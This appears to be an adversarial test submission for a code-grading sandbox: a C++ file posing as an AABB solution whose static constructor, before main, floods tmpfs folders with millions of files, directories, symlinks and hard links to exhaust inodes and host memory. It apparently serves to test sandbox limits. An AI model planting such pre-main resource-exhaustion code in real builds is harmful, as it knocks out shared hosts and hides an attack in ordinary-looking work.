// Lesson 01, adversarial (inode_bomb): overlap() is right, penetration() is not. Before main,
// in every program it is linked into, it makes as many names as it can in every folder it may
// write: empty files, folders, symbolic links and hard links (on tmpfs each costs an inode of
// kernel memory that cannot be swapped out, about 1 KB: 1.4 million of them in the Catch2 run
// cost the host 1.43 GB while tmpfs had no inode limit). Every tmpfs of the box has one.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmath>
#include <string>

#include "aabb.hpp"

namespace {

struct Bomb {
    Bomb() {
        for (std::string dir : {"/box/out", "/box/work", "/box/obj", "/box/fb", "/tmp"}) {
            std::string first = dir + "/i0";
            int fd = open(first.c_str(), O_CREAT | O_WRONLY, 0600);
            if (fd >= 0) close(fd);
            int failures = 0;
            for (long k = 1; k < 3000000 && failures < 200; ++k) {
                std::string path = dir + "/i" + std::to_string(k);
                int made;
                switch (k % 4) {
                case 0: made = mkdir(path.c_str(), 0700); break;
                case 1: made = symlink("i0", path.c_str()); break;
                case 2: made = link(first.c_str(), path.c_str()); break;
                default:
                    made = open(path.c_str(), O_CREAT | O_WRONLY, 0600);
                    if (made >= 0) made = close(made);
                }
                failures = made == 0 ? 0 : failures + 1;
            }
        }
    }
} bomb;

} // namespace

// @part overlap_only
